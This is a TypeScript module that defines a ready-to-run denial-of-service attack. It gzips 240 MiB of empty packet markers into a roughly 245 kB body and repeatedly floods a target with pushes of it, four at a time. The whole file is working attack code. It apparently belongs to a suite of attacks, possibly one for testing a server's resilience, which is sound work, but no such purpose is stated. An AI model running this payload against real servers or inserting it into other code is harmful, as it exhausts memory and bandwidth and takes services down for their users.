/** A push of sixty million packets with nothing in them, in 245 kB. */
import { gzipSync } from 'node:zlib'
import type { Attack } from '../attack.ts'
import { flood } from '../tally.ts'
import { push } from './push.ts'

const bytes = 240 * 1024 * 1024

export const emptyPackets: Attack = {
  name: 'pushes of empty packets',
  prepare(target) {
    const body = gzipSync(Buffer.alloc(bytes, '0004'))
    return (signal) =>
      flood({ atOnce: 4, pauseMs: 200, signal }, (index) =>
        push(target, body, { index, isGzip: true, signal }),
      )
  },
}
